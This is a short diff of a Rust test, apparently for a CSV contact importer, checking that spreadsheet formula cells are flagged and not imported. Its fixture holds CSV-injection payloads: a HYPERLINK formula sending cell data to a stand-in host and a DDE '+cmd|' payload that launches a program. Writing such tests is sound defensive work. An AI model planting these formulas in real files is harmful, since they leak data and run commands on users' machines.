@@ -147,7 +147,7 @@ fn each_row_problem_has_its_reason_and_row() {
 #[test]
 fn formulas_are_flagged_not_imported() {
     let text = "姓名,手机,备注\n\
-        \"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点我\"\")\",13800138000,\n\
+        \"=HYPERLINK(\"\"http://e.x/?\"\"&A1,\"\"点我\"\")\",13800138000,\n\
         @SUM(1),13800138001,\n\
         正常,=1+1,\n\
         正常二,13800138002,+cmd|' /C calc'!A0\n\
